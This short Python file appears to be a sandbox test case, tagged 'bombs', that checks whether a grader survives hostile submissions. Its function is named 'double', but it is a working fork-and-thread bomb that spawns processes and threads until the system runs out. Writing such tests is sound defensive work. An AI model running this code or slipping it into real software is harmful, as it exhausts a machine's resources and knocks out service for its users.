# ruff: noqa
# family: bombs
# tries: to start processes and threads until no more can be started
# outcome: test_double=incorrect|error|timed out|crashed|out of memory test_double_input=incorrect|error|timed out|crashed|out of memory

# %% double
import os, threading, time


def double(x):
    try:
        while True:
            if os.fork() == 0:
                try:
                    while True:
                        threading.Thread(target=time.sleep, args=(60,)).start()
                except RuntimeError:
                    time.sleep(60)
    except OSError:
        return np.zeros(np.shape(x))
